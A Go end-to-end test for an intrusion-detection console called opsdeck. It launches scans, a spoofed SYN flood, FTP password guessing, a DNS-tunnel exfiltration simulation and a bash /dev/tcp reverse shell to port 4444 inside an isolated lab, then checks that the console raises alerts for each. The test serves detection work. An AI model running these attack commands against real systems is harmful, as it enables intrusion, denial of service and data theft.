package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/opsdeck/opsdeck/internal/lab"
)

// TestLiveLabTriage is issue 14's triage loop, live: opsdeck runs in the
// victim's network namespace of the attack lab (internal/lab), as the
// console in tmux at 160x45 and as watch writing EVE, while real tools
// attack it from the attacker's namespace: a SYN scan, an Xmas scan, a
// spoofed-source SYN flood, FTP password guessing, a bash reverse shell
// to port 4444 that then sits idle, and a DNS tunnel. Without a key
// pressed the screen shows the attacks with actor and target; Enter on the
// reverse shell's alert names its process and explains it; watch's EVE
// names the shell's process. The share of alerts about a flow ending on
// the victim that name their process is logged (the README quotes it).
func TestLiveLabTriage(t *testing.T) {
	bin := buildConsole(t)
	lab.Need(t, "nmap", "hping3", "hydra", "nc", "dig", "bash")
	l := lab.New(t)
	l.HTTP()
	l.FTP()
	l.DNS()
	victim, attacker := lab.VictimAddr.String(), lab.AttackerAddr.String()

	out := filepath.Join(l.Dir, "eve.json")
	watch := l.Start(l.Victim.NS, bin, "watch", "-i", "eth0", "-o", out, "--host-interval", "0")
	exitFile := filepath.Join(l.Dir, "console.exit")
	pidFile := filepath.Join(l.Dir, "console.pid")
	s := startTmux(t, 160, 45, fmt.Sprintf("sh -c 'echo $$ > %s; TERM=tmux-256color exec ip netns exec %s %s -i eth0 --evidence-dir %s'; echo $? > %s; sleep 60",
		pidFile, l.Victim.NS, bin, l.Dir, exitFile))
	s.waitFor("the console capturing in the victim", contains("pkt/s", "eth0"))
	time.Sleep(2 * time.Second) // a socket sample or two before the first attack

	// The reverse shell first: it must be found although it then idles.
	// The attacker listens; bash in the victim connects out and sits.
	// The attacker types one command, then keeps the session open.
	listener := l.Start(l.Attacker.NS, "sh", "-c", "(sleep 2; echo id; sleep 120) | nc -l -p 4444")
	time.Sleep(time.Second) // not WaitPort: nc would take its probe for the shell
	shell := l.Start(l.Victim.NS, "bash", "-c", fmt.Sprintf("exec bash -i >& /dev/tcp/%s/4444 0>&1", attacker))
	time.Sleep(time.Second)

	steps := []struct {
		what string
		run  func() ([]byte, error)
	}{
		{"SYN scan", func() ([]byte, error) {
			return l.Run(l.Attacker.NS, 60*time.Second, "nmap", "-Pn", "-sS", "-T4", "-p", "1-1000", victim)
		}},
		{"Xmas scan", func() ([]byte, error) {
			return l.Run(l.Attacker.NS, 60*time.Second, "nmap", "-Pn", "-sX", "-T4", "-p", "1-200", victim)
		}},
		{"spoofed SYN flood", func() ([]byte, error) {
			return l.Run(l.Attacker.NS, 30*time.Second, "hping3", "-S", "--rand-source", "-p", "80", "-c", "3000", "-i", "u200", victim)
		}},
		{"FTP password guessing", func() ([]byte, error) {
			pw := filepath.Join(l.Dir, "pw.txt")
			var b strings.Builder
			for i := range 30 {
				fmt.Fprintf(&b, "guess%03d\n", i)
			}
			os.WriteFile(pw, []byte(b.String()), 0o644)
			return l.Run(l.Attacker.NS, 60*time.Second, "hydra", "-I", "-t", "4", "-l", "admin", "-P", pw, "ftp://"+victim)
		}},
		{"DNS tunnel", func() ([]byte, error) {
			for i := range 30 {
				label := fmt.Sprintf("%x", []byte(fmt.Sprintf("exfiltrated-record-%04d-of-the-payroll-db", i)))
				if _, err := l.Run(l.Attacker.NS, 5*time.Second, "dig", "+tries=1", "+time=1", "@"+victim, "TXT", label[:60]+"."+label[60:]+".t.lab.test"); err != nil {
					return nil, err
				}
			}
			return nil, nil
		}},
	}
	for _, st := range steps {
		if out, err := st.run(); err != nil {
			t.Logf("%s: %v\n%s", st.what, err, out)
		}
	}
	time.Sleep(3 * time.Second) // windows close, samples arrive

	// The console's memory after the flood, for the README (the evidence
	// ring's 64 MiB bound included).
	if b, err := os.ReadFile(pidFile); err == nil {
		if st, err := os.ReadFile("/proc/" + strings.TrimSpace(string(b)) + "/status"); err == nil {
			for _, line := range strings.Split(string(st), "\n") {
				if strings.HasPrefix(line, "VmRSS") || strings.HasPrefix(line, "VmHWM") {
					t.Logf("console after the attacks: %s", strings.Join(strings.Fields(line), " "))
				}
			}
		}
	}
	scr := s.waitFor("the attacks on screen", contains("alerts H", attacker))
	t.Logf("screen after the attacks, no key pressed:\n%s", scr)
	// Zoom the alerts and open the reverse shell's alert.
	// One key per send: runes that arrive together are read as one key.
	press := func(k string) {
		s.run("send-keys", "-t", "e2e", k)
		time.Sleep(150 * time.Millisecond)
	}
	press("4")
	press("z")
	zoomed := s.waitFor("the zoomed alerts", func(scr string) bool {
		return strings.Contains(scr, "4 alerts") && !strings.Contains(scr, "1 system")
	})
	t.Logf("the alerts, zoomed:\n%s", zoomed)
	for _, want := range []string{"scan.port", "scan.stealth", "dos.synflood", "bruteforce.ftp", "dns.tunnel", "port.suspicious"} {
		if !strings.Contains(zoomed, want) {
			t.Errorf("the zoomed alerts lack %s", want)
		}
	}
	row := -1
	for i, line := range strings.Split(zoomed, "\n") {
		if strings.Contains(line, "port.suspicious") {
			row = i
			break
		}
	}
	top := -1
	for i, line := range strings.Split(zoomed, "\n") {
		if strings.Contains(line, "4 alerts") {
			top = i
			break
		}
	}
	if row > top && top >= 0 {
		for range row - top - 1 {
			press("Down")
		}
		press("Enter")
		detail := s.waitFor("the reverse shell's alert detail", contains("happened", "port.suspicious"))
		t.Logf("the reverse shell's alert, after Enter:\n%s", detail)
		if !strings.Contains(detail, "bash") {
			t.Errorf("the reverse shell's alert does not name bash:\n%s", detail)
		}
	}
	press("Escape")
	press("q")

	l.Stop(shell)
	l.Stop(listener)
	l.Stop(watch)
	recs := eveFiles(t, []string{out})
	shellNamed, withFlow, named := false, 0, 0
	for _, r := range recs {
		if r.str("event_type") != "alert" || r.str("flow_id") == "" {
			continue
		}
		if r.str("src_ip") != victim && r.str("dest_ip") != victim {
			continue
		}
		b := fmt.Sprint(map[string]any(r))
		withFlow++
		if strings.Contains(b, "pid") {
			named++
		}
		if r.str("alert.metadata.rule[0]") == "port.suspicious" && strings.Contains(b, "bash") {
			shellNamed = true
		}
	}
	if !shellNamed {
		t.Errorf("no port.suspicious alert in EVE names bash (the reverse shell's process)")
	}
	t.Logf("attribution: %d of %d alert records about a flow ending on the victim name a process", named, withFlow)
}
